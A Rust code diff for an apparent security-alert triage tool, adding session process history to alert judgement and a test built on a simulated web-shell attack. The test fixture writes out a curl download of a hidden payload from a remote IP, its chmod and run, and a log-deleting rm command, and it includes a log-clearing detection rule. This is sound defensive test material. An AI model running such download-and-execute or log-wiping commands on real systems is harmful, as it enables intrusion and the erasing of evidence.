@@ -82,12 +82,9 @@ pub fn judge_with(
     hist: &History,
     lang: Lang,
 ) -> Option<Json> {
-    let mut record = quell_triage::input::parse_line(raw, 1, "alert").ok()?;
-    record.decision = None;
-    if let Some(ctx) = context {
-        quell_store::behaviour::add_context(&mut record.event, ctx);
-    }
-    let hostname = record.hostname.clone().unwrap_or_default();
+    let records = alert_records(raw, context, 1, "alert")?;
+    let at = records.len() - 1;
+    let hostname = records[at].hostname.clone().unwrap_or_default();
     let triage = Triage {
         engine,
         catalogue,
@@ -96,9 +93,9 @@ pub fn judge_with(
         hostname: &hostname,
     };
     let report = triage
-        .run(std::slice::from_ref(&record))
+        .run(&records)
         .into_iter()
-        .next()?;
+        .find(|r| r.members.contains(&at))?;
     Some(json!({
         "lang": match lang { Lang::En => "en", Lang::Ja => "ja" },
         "verdict": report.verdict.as_str(),
@@ -112,9 +109,91 @@ pub fn judge_with(
     }))
 }
 
+/// A stored alert as triage records: the session's recent process starts its event context
+/// carries ([`quell_store::behaviour::session_starts`], plain events, numbered from
+/// `first_line`), then the alert itself with the context's process fields and lineage added
+/// (last). A `quell.decision` its sender wrote is dropped. `None` when `raw` is no alert
+/// triage can read.
+///
+/// Triage then weighs what the session ran before the alert (the web shell's download
+/// before its `rm`), as `quell triage` does over a recording: judged alone, the alert of an
+/// attack session and a person's identical act look alike.
+pub fn alert_records(
+    raw: &str,
+    context: Option<&Json>,
+    first_line: usize,
+    what: &str,
+) -> Option<Vec<quell_triage::Record>> {
+    let mut record = quell_triage::input::parse_line(raw, first_line, what).ok()?;
+    record.decision = None;
+    let mut out = Vec::new();
+    if let Some(ctx) = context {
+        quell_store::behaviour::add_context(&mut record.event, ctx);
+        for (i, event) in quell_store::behaviour::session_starts(ctx, &record.event)
+            .into_iter()
+            .enumerate()
+        {
+            out.push(quell_triage::Record {
+                event,
+                rule: None,
+                hostname: record.hostname.clone(),
+                decision: None,
+                line: first_line + i,
+                raw_alert: None,
+            });
+        }
+        record.line = first_line + out.len();
+    }
+    out.push(record);
+    Some(out)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// What the session ran before the alert (its context's process starts) reaches triage:
+    /// a deletion whose lineage shows nothing but a shell is likely real after that shell's
+    /// download and run of a hidden file in /tmp, and not without them.
+    #[test]
+    fn the_contexts_session_starts_are_weighed() {
+        let mut engine = Engine::new();
+        let loaded = engine.load(
+            "r.yaml",
+            "- rule: Clear Log Activities\n  desc: d\n  condition: evt.type = unlinkat and fs.path.name startswith /var/log/\n  output: o (file=%fs.path.name)\n  priority: WARNING\n",
+        );
+        assert!(loaded.successful);
+        let catalogue = Catalogue::builtin();
+        let raw = json!({
+            "rule": "Clear Log Activities", "priority": "Warning", "hostname": "h",
+            "time": "2026-12-06T10:00:10.000000000Z", "output": "o",
+            "output_fields": {"evt.type": "unlinkat", "proc.name": "rm",
+                "proc.cmdline": "rm -f /var/log/dpkg.log", "proc.pname": "sh",
+                "fs.path.name": "/var/log/dpkg.log", "container.id": "c0ffee123456"}
+        })
+        .to_string();
+        let t = 1_796_551_210_000_000_000u64;
+        let start = |dt: u64, pid: i64, exe: &str, cmd: &str| json!({"time_ns": t - dt, "pid": pid, "ppid": 110, "exepath": exe, "cmdline": cmd, "user": "www-data"});
+        let mut ctx = json!({
+            "process": {"proc.sid": 77, "proc.pid": 120, "proc.ppid": 110, "user.name": "www-data",
+                "container.id": "c0ffee123456", "evt.type": "unlinkat"},
+            "lineage": [{"level": 0, "pid": 120, "name": "rm"},
+                        {"level": 1, "pid": 110, "name": "sh", "cmdline": "sh"}],
+            "session": {"sid": 77, "recent_starts": [
+                start(3_000_000_000, 111, "/usr/bin/curl", "curl -s -o /tmp/.update http://203.0.113.9/payload"),
+                start(2_000_000_000, 112, "/usr/bin/chmod", "chmod +x /tmp/.update"),
+                start(1_000_000_000, 113, "/tmp/.update", "/tmp/.update"),
+            ]}
+        });
+        let hist = History::empty();
+        let verdict = |ctx: &Json| {
+            judge_with(&engine, &catalogue, &raw, Some(ctx), &hist, Lang::En).unwrap()["verdict"]
+                .clone()
+        };
+        assert_eq!(verdict(&ctx), "likely_real");
+        ctx["session"]["recent_starts"] = json!([]);
+        assert_ne!(verdict(&ctx), "likely_real");
+    }
 
     #[test]
     fn language_from_query_then_header() {
